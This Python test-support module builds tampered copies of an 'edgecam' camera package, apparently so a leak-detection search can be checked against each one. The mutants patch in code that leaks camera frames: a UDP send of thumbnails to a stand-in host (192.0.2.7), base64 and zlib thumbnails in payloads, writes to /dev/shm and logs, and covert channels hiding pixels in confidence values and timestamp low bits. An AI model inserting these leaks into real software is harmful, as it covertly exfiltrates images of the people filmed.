"""Builds of edgecam that were tampered with: the search must find what they let out."""

import shutil
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from support.places import ROOT

# Where a picture is held, where payloads are made, where records are made, where the model answers.
_SEEING = ("edgecam/vision/preprocess.py", "        source = self.view(pixels)\n")
_PAYLOAD = ("edgecam/publisher/contract.py", "    return msgspec.json.encode(payload)\n")
_RECORD = ("edgecam/link.py", "    return _encoder.encode(record)\n")
_EVENT = ("edgecam/publisher/stored_event.py", "    return msgspec.msgpack.encode(event)\n")
_ANSWER = ("edgecam/vision/classifier.py", "        stored = self._output()[self._only]\n")

# In one process the halves share their memory. Only of the canary something is kept: the other
# picture is hardly more than grey.
_KEEP = """\
        import edgecam
        if pixels.std() > 40:
            edgecam.seen = pixels
"""
MANY = 70  # sightings: more than an 8x8 thumbnail has pixels
_THUMBNAIL = "cv2.resize(cv2.cvtColor(edgecam.seen, cv2.COLOR_RGB2GRAY), ({0}, {0}))"


@dataclass(frozen=True)
class Patch:
    """Code that is put before a line, which must be in the file exactly once."""

    place: tuple[str, str]
    code: str


@dataclass(frozen=True)
class Mutant:
    """A build that leaks, and what the search must say of it."""

    patches: tuple[Patch, ...]
    found: str
    """A pattern for one of the findings, so that it is caught for what it does."""
    sightings: int = 4
    """How many it needs to leak."""


def build(folder: Path, patches: Iterable[Patch]) -> Path:
    """A copy of the package with patches; the folder to import it from."""
    shutil.copytree(
        ROOT / "edgecam", folder / "edgecam", ignore=shutil.ignore_patterns("__pycache__")
    )
    for patch in patches:
        name, line = patch.place
        text = (folder / name).read_text(encoding="utf-8")
        assert text.count(line) == 1, f"{name} has changed: mend the mutants"
        (folder / name).write_text(text.replace(line, patch.code + line), encoding="utf-8")
    return folder


def _seeing(code: str, found: str) -> Mutant:
    """Something is done with each picture, where only pictures are."""
    return Mutant((Patch(_SEEING, f"        if pixels.std() > 40:\n            {code}\n"),), found)


def _payload(code: str, found: str) -> Mutant:
    """Something is done with a thumbnail where payloads are made.

    `info` is said on connecting, so its sending is held up until there is a picture.
    """
    thumbnail = _THUMBNAIL.format(16)
    leak = f"""\
    import base64, cv2, edgecam, socket, threading, time
    sending = threading.current_thread() is not threading.main_thread()
    while sending and isinstance(payload, InfoPayload) and not hasattr(edgecam, "seen"):
        time.sleep(0.01)
    if hasattr(edgecam, "seen"):
        thumbnail = {thumbnail}.tobytes()
        {code}
"""
    return Mutant((Patch(_SEEING, _KEEP), Patch(_PAYLOAD, leak)), found)


def _stored(code: str, found: str) -> Mutant:
    """Something is done with a thumbnail where events are put into the queue."""
    leak = f"""\
    import cv2, edgecam, zlib
    if hasattr(edgecam, "seen"):
        {code.format(_THUMBNAIL.format(16))}
"""
    return Mutant((Patch(_SEEING, _KEEP), Patch(_EVENT, leak)), found)


def _sighting(change: str, found: str) -> Mutant:
    """Each sighting on the wall carries one pixel of an 8x8 thumbnail."""
    leak = f"""\
    import cv2, edgecam
    if isinstance(record, Numbered) and isinstance(record.event, Sighting):
        edgecam.sent = getattr(edgecam, "sent", -1) + 1
        pixel = int({_THUMBNAIL.format(8)}.flat[edgecam.sent % 64])
        record = Numbered(record.counter, msgspec.structs.replace(record.event, {change}))
"""
    return Mutant((Patch(_SEEING, _KEEP), Patch(_RECORD, leak)), found, MANY)


def _record(code: str, found: str) -> Mutant:
    """Something else than a record is put on the wall."""
    leak = f"""\
    import edgecam
    if isinstance(record, VisionHealth) and hasattr(edgecam, "seen"):
        {code}
"""
    return Mutant((Patch(_SEEING, _KEEP), Patch(_RECORD, leak)), found)


MUTANTS = {
    "a thumbnail as base64 in info": _payload(
        """if isinstance(payload, InfoPayload):
            icon = base64.b64encode(thumbnail).decode()
            return msgspec.json.encode({**msgspec.to_builtins(payload), "icon": icon})""",
        r"edgecam/canary/info base64: like a 16x16 thumbnail",
    ),
    "a packet to somebody else": _payload(
        """with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
            elsewhere.sendto(thumbnail, ("192.0.2.7", 5353))""",
        r"packets to 192\.0\.2\.7 port 5353",
    ),
    "a picture file in the state folder": _seeing(
        'cv2.imwrite("state/last.jpg", pixels)', r"state/last\.jpg: the mark of JPEG"
    ),
    "a piece of a picture in shared memory": _seeing(
        """from pathlib import Path
            place = Path("/dev/shm/edgecam-canary")
            place.write_bytes(pixels[200:210].tobytes())
            place.unlink()""",
        r"/edgecam-canary: bytes of frame RGB",
    ),
    "pixels in a debug line": _seeing(
        'import logging; logging.getLogger(__name__).debug("row %s", pixels[240, :64].tolist())',
        r"world/log list: bytes of frame RGB",
    ),
    "a pixel in each confidence": _sighting(
        "confidence=pixel * 1000 // 255",
        r"event \.confidence, over \d+ messages: like a 8x8 thumbnail",
    ),
    "a pixel in the low bits of each time": _sighting(
        "at_ns=record.event.at_ns // 256 * 256 + pixel - 256",
        r"socket:.* over \d+ messages: like a 8x8 thumbnail",
    ),
    "a block of pixels on the wall": _record(
        "return edgecam.seen[200:232, 200:232].tobytes()", r"socket:.*: bytes of frame RGB"
    ),
    "a compressed thumbnail in stored events": _stored(
        """icon = zlib.compress(({} // 32).tobytes())
        return msgspec.msgpack.encode({{**msgspec.to_builtins(event), "icon": icon}})""",
        r"outbox\.db.* zlib: like a 16x16 thumbnail",
    ),
}
CRASHING = (
    Patch(
        _ANSWER,
        """\
        self.looks = getattr(self, "looks", 0) + 1
        if self.looks > 20:
            msg = "the model broke"
            raise ValueError(msg)
""",
    ),
)
